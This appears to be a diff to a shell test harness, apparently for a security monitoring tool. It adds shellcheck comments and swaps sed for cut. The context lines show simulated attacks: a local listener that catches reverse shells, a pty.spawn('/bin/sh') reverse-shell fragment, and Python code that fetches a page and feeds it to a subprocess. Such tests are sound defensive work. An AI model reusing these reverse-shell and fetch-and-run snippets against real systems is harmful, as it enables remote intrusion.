@@ -55,6 +55,7 @@ serve_postgres "$sql"
 serve_ssh "$ssh"
 
 # Whoever waits for reverse shells: gives each two commands, and writes down what it answers.
+# shellcheck disable=SC2016 # a program in Python
 start intruder "$python" -c '
 import socket, sys
 with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as server:
@@ -169,7 +170,7 @@ row() {
 # The rules of lines rule=exe, each once, with how often it is there.
 names() {
     local list
-    list=$(sed 's/=.*//' <<<"$1" | sort | uniq -c | awk 'NF > 1 { printf "%s%s%s", sep, $2, ($1 > 1 ? "*" $1 : ""); sep = " " }')
+    list=$(cut -d= -f1 <<<"$1" | sort | uniq -c | awk 'NF > 1 { printf "%s%s%s", sep, $2, ($1 > 1 ? "*" $1 : ""); sep = " " }')
     echo "${list:-none}"
 }
 phase=raised
@@ -269,6 +270,7 @@ pty.spawn("/bin/sh")' "$intruder" &
     one_more "$before"
 }
 python_feeds_shell() {
+    # shellcheck disable=SC2016 # a program in Python
     "$python" -c '
 import subprocess, sys, urllib.request
 page = urllib.request.urlopen("http://127.0.0.1:%s/" % sys.argv[1]).read()
